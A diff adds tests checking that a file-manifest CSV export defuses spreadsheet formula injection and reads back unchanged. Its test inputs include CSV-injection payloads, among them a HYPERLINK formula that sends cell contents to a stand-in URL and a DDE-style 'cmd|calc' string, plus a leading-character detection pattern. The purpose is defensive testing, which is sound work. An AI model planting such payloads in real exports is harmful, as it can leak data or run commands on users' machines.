@@ -259,6 +259,63 @@ describe('the archive of a folder', () => {
   })
 })
 
+describe('the manifest as CSV', () => {
+  const formulas = [
+    ...['=1+1', '+1', '-1', '@SUM(A1)', "'=1+1", "''=1", "'plain", '＝1', '＋1', '－1', '＠a'],
+    ...['=HYPERLINK("http://example.org?"&A1)', '-2+3+cmd|calc', 'a;=1', 'a,=1', 'a=1'],
+  ]
+
+  /** The cells of RFC 4180, with the quote that keeps a formula from being calculated taken away. */
+  const readCsv = (text: string) =>
+    text
+      .split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)
+      .filter((line) => line !== '')
+      .map((line) =>
+        [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(([, quoted, plain = '']) =>
+          (quoted?.replaceAll('""', '"') ?? plain).replace(/^'(?='*[=+\-@\t\r\n＝＋－＠])/, ''),
+        ),
+      )
+
+  test('gives no spreadsheet a formula to calculate, in any cell', async () => {
+    const folder = await createFolder(house, { workspaceId, name: 'formulas' })
+    for (const [i, text] of formulas.entries()) {
+      const name = text.replaceAll('/', '_')
+      const input = { workspaceId, folderId: folder.id, name: `${name}${i}` }
+      await uploadFile(house, { ...input, bytes: text, description: text, tags: [text] })
+    }
+    for (const description of ['\t=1', '\r=1', '\n=1'])
+      await createFolder(house, {
+        parent: { id: folder.id },
+        name: description.slice(1),
+        description,
+        onConflict: 'RENAME',
+      })
+    const text = await (await get(manifestUrl(await urlOf(folder.id), 'csv'))).text()
+    const raw = [...text.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,"\r]*))/g)]
+    expect(raw.length).toBeGreaterThan(19 * 12)
+    for (const [, quoted, plain = ''] of raw)
+      expect(quoted ?? plain).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
+  })
+
+  test('read back, it is the manifest unchanged', async () => {
+    const folder = await createFolder(house, { workspaceId, name: 'back' })
+    for (const [i, text] of formulas.entries()) {
+      const name = `${text.replaceAll('/', '_')}${i}`
+      const more = { description: text, tags: [text], metadata: { '=1': text } }
+      await uploadFile(house, { workspaceId, folderId: folder.id, name, bytes: name, ...more })
+    }
+    const url = await urlOf(folder.id)
+    const { entries } = (await (await get(manifestUrl(url, 'json'))).json()) as { entries: any[] }
+    const [head = [], ...lines] = readCsv(await (await get(manifestUrl(url, 'csv'))).text())
+    const cell = (entry: any, column: string) => {
+      const value = entry[column] ?? ''
+      if (column === 'tags') return value.join('; ')
+      return typeof value === 'object' ? JSON.stringify(value) : String(value)
+    }
+    expect(lines).toEqual(entries.map((entry) => head.map((column) => cell(entry, column))))
+  })
+})
+
 /** The confirmed upload of these bytes, and the file that they have become. */
 async function uploaded(bytes: Uint8Array, name = 'archive.zip') {
   const parcels = { workspaceId, path: `parcels/${Math.random()}`, name, size: bytes.length }
